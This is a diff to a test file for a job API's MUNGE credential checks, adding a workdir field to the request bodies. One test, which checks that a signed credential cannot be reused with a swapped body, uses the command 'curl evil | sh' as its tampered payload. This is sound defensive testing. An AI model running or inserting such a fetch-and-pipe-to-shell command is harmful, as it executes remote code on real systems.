@@ -79,7 +79,7 @@ def refused(response: Any, reason: str) -> str:
 def test_a_credential_signs_in_the_user_of_its_account(
     world: ApiWorld, accounts: list[str]
 ) -> None:
-    body = json.dumps({"name": "m", "command": "true", "num_gpus": 1}).encode()
+    body = json.dumps({"workdir": "/tmp", "name": "m", "command": "true", "num_gpus": 1}).encode()
     cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=body))
     r = munge_post(world, "/v1/jobs", cred, body)
     assert r.status_code == 201, r.text
@@ -111,8 +111,8 @@ def test_a_credential_is_good_for_its_own_request_only(
     cred = credential_as(accounts[0], b"")  # what a bare `munge -n` makes
     refused(munge_get(world, "/v1/queue", cred), "MUNGE_WRONG_REQUEST")
     # the body is signed: a credential captured on its way cannot carry another command
-    honest = json.dumps({"command": "true", "num_gpus": 1}).encode()
-    evil = json.dumps({"command": "curl evil | sh", "num_gpus": 1}).encode()
+    honest = json.dumps({"workdir": "/tmp", "command": "true", "num_gpus": 1}).encode()
+    evil = json.dumps({"workdir": "/tmp", "command": "curl evil | sh", "num_gpus": 1}).encode()
     cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=honest))
     refused(munge_post(world, "/v1/jobs", cred, evil), "MUNGE_WRONG_REQUEST")
     with world.sessions() as s:
